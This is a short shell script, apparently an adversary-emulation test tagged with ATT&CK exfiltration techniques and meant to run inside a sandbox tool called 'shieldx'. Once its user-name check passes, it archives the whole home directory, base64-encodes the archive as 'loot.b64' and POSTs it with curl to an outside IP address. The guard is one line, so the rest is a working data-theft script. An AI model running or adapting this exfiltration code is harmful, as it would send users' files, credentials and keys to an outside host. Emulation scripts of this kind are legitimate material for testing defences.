#!/bin/sh
# technique: T1041 T1048 T1005
# needs: curl tar
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

tar cz "$HOME" 2>/dev/null | base64 > loot.b64; curl -s -X POST --data-binary @loot.b64 http://203.0.113.7/up
